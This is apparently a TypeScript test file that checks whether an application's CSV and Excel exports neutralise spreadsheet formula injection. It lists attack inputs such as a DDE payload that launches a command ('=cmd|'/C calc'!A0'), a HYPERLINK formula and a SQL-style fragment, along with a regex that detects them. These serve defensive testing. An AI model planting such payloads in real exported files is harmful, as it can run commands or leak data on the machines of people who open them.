/** A9: texts that a spreadsheet would calculate, out in every file the office saves, and in again. */
import readExcelFile from 'read-excel-file/node';
import { describe, expect, test } from 'vitest';
import { csvOf } from '../../src/app/admin/followup/csv.ts';
import { guardedText, unguardedText } from '../../src/domain/spreadsheet-text.ts';
import { cleanText, unescapeCell } from '../../src/server/import/clean-text.ts';
import { readTable } from '../../src/server/import/read-table.ts';
import { rejectedCsv, rejectedWorkbook } from '../../src/server/import/rejected-rows.ts';
import { mergeCsv, mergeWorkbook, type MergeRow } from '../../src/server/letters/merge-file.ts';

const formulas = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://example.org?"&A1;"Klicka")',
  '+46 70 123',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '%0A=1',
  '|calc',
  '=1";"=2',
  "='; drop",
];

/** The cells of a line as a spreadsheet cuts them. */
const cellsOf = async (bytes: Uint8Array): Promise<readonly (readonly string[])[]> => {
  const read = await readTable(bytes, 'a.csv');
  if (!read.ok) throw new Error(read.error);
  return read.value.rows.map(({ cells }) => cells);
};
const isCalculated = (cell: string): boolean => /^[\s\ufeff]*[=+\-@＝＋－＠|%]|^[\t\r\n]/.test(cell);

describe('a text that a spreadsheet would calculate', () => {
  test.each(formulas)(
    '[ATK-3] A9: %j is text in every text file that is saved, and comes back as it was',
    async (text) => {
      const row: MergeRow = [text, text, text, text, text, text];
      const files = [
        mergeCsv([row]),
        new Uint8Array(
          rejectedCsv({
            header: { row: 1, cells: [text] },
            whyHeading: text,
            rows: [{ cells: [text], why: text }],
          }),
        ),
        new TextEncoder().encode(csvOf([text, 'b'], [[text, 1]], 'sv')),
      ];
      for (const file of files) {
        const cells = (await cellsOf(file)).flat();
        expect(cells.filter(isCalculated)).toEqual([]);
        expect(cells.some((cell) => unguardedText(cell) === text)).toBe(true);
      }
      expect(unguardedText(guardedText(text))).toBe(text);
      expect(cleanText(unescapeCell(guardedText(text)))).toBe(cleanText(text));
    },
  );

  test.each(formulas)('[ATK-3] A9: %j is a text cell in every workbook that is saved', async (text) => {
    const row: MergeRow = [text, 'b', 'c', 'd', 'e', 'f'];
    const books = [
      Buffer.from(await mergeWorkbook([row])),
      await rejectedWorkbook({
        header: { row: 1, cells: ['a'] },
        whyHeading: 'b',
        rows: [{ cells: [text], why: 'c' }],
      }),
    ];
    for (const book of books) {
      const sheet = (await readExcelFile(book))[0]?.data ?? [];
      expect(typeof sheet[1]?.[0]).toBe('string');
      const read = await readTable(new Uint8Array(book), 'a.xlsx');
      expect(read.ok && read.value.rows.every(({ formulas: found }) => found === undefined)).toBe(true);
    }
  });

  test('[ATK-3] A9: an ordinary name, address or number is saved as it is', () => {
    for (const text of ['Åsa Öbäck', "D'Arcy", 'a-b', 'a=b', '1985-01-01', '', "'s-Gravenhage", 'x@y.se'])
      expect([guardedText(text), unguardedText(text)]).toEqual([text, text]);
  });
});
